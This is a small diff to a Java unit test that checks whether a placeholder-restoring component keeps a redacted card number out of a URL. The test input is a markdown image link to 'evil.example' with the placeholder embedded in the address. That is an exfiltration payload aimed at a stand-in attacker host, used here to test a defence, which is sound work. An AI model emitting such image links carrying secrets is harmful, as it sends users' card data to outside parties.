@@ -41,8 +41,8 @@ class RestoringTest {
     @Test
     void anAddressCarriesNothingAway() {
         Restoring restoring = new Restoring(vault());
-        String given = restoring.more("![x](https://evil.example/") + restoring.more("[card-1]) [card-1]")
-                + restoring.end();
+        String given =
+                restoring.more("![x](https://evil.example/") + restoring.more("[card-1]) [card-1]") + restoring.end();
         assertThat(given).isEqualTo("![x](https://evil.example/[card-1]) 4111 1111 1111 1111");
     }
 
